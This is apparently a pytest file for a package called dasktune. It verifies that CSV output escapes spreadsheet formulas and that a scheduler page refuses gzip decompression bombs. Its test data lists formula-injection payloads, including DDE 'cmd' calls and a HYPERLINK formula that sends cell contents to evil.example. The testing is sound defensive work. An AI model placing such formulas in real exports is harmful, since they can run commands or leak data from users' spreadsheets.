"""Texts of users are no formulas in a spreadsheet, and a small upload is no large load."""

from __future__ import annotations

import asyncio
import csv
import gzip
import io
from pathlib import Path
from typing import Any

import pytest
from test_scheduler_page_requests import serving
from tornado.httpclient import AsyncHTTPClient

from dasktune.cli.output import write_csv
from dasktune.cluster.scheduler_page import page_plugin
from dasktune.logger.csv import CSVLoggerCallback

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
)
NUMBERS = (-0.5, 3, "-1e-05", "+4", "-inf")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_a_text_of_a_trial_is_no_formula_in_progress_csv(formula: str):
    made = CSVLoggerCallback().make_format()
    rows: list[dict[str, Any]] = [{"loss": -0.5, "note": formula, formula: 1}]
    head, first = cells(made.encode_all(rows).decode())
    shown = "'" + formula.replace("\r", "\n")
    assert head == ["loss", "note", shown]
    assert first == ["-0.5", shown, "1"]
    more = made.encode_more(rows)
    assert more is not None
    assert cells(more.decode()) == [first]


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_a_text_of_an_experiment_is_no_formula_in_a_table_of_the_command_line(
    formula: str, capsys: pytest.CaptureFixture[str]
):
    write_csv(["name", formula], [[formula, *NUMBERS], [[formula], None]])
    head, first, second = cells(capsys.readouterr().out)
    shown = "'" + formula.replace("\r", "\n")
    assert head == ["name", shown]
    assert first == [shown, "-0.5", "3", "-1e-05", "+4", "-inf"]
    assert second[0].startswith("[")


@pytest.mark.parametrize("text", ["adam\r=1+1", "adam\r\n=1+1", "adam\n=1+1"])
def test_a_line_break_in_a_text_begins_no_row(text: str):
    rows: list[dict[str, Any]] = [{"note": text}]
    assert cells(CSVLoggerCallback().make_format().encode_all(rows).decode()) == [["note"], ["adam\n=1+1"]]


#: Maximum size in bytes of a page that the scheduler stores.
STORED = 2_000_000


def sent_without_gzip(content: bytes) -> tuple[int, bytes]:
    """Store a page on a scheduler; return what a browser gets that cannot decompress it."""

    async def ask() -> tuple[int, bytes]:
        async with serving() as (plugin, url):
            await plugin.answer("push", "k", "d", number=1, whole=content)
            answer = await AsyncHTTPClient().fetch(
                f"{url}~whole?key=k&number=1",
                decompress_response=False,
                raise_error=False,
                request_timeout=60,
            )
            return answer.code, answer.body

    return asyncio.run(ask())


def test_a_small_upload_is_not_decompressed_without_a_limit():
    assert sent_without_gzip(gzip.compress(b"x" * 999)) == (200, b"x" * 999)
    # The scheduler decompresses at most a few times what it stores.
    for bomb in (gzip.compress(bytes(25 * STORED + 1)), b"no gzip", gzip.compress(b"x" * 999)[:-9]):
        assert sent_without_gzip(bomb) == (406, b"406")
    with pytest.raises(ValueError, match=f"at most {STORED} bytes"):
        sent_without_gzip(bytes(STORED + 1))


def test_no_code_of_the_package_decompresses_what_it_is_sent_without_a_limit():
    places = [
        f"{path.name}: {line.strip()}"
        for path in Path(page_plugin.__file__).parents[2].rglob("*.py")
        for line in path.read_text(encoding="utf-8").splitlines()
        if any(call in line for call in ("gzip.decompress(", "zlib.decompress(", "bz2.decompress("))
    ]
    assert places == []
